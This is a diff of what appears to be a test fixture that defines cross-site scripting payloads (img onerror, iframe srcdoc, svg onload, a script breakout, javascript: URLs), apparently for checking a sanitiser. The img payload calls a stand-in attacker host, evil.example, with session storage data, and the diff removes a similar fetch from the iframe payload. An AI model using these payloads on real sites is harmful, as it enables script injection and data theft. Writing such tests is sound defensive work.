@@ -8,7 +8,7 @@ export const FOREIGN_HOST = 'evil.example';
 
 export const PAYLOADS = {
   img: `<img id="xss-img" src=x onerror="window.${XSS_FLAG}='img';fetch('http://${FOREIGN_HOST}/?s='+sessionStorage.length)">`,
-  iframe: `<iframe id="xss-iframe" srcdoc="<script>parent.${XSS_FLAG}='iframe';parent.fetch('http://${FOREIGN_HOST}/')</script>"></iframe>`,
+  iframe: `<iframe id="xss-iframe" srcdoc="<script>parent.${XSS_FLAG}='iframe'</script>"></iframe>`,
   svg: `<svg id="xss-svg" onload="window.${XSS_FLAG}='svg'"></svg>`,
   breakout: `"><script id="xss-script">window.${XSS_FLAG}='script'</script><b id="xss-b">`,
   javascriptUrl: `javascript:window.${XSS_FLAG}='url'//<a id="xss-a" href="javascript:window.${XSS_FLAG}='a'">点击</a>`,
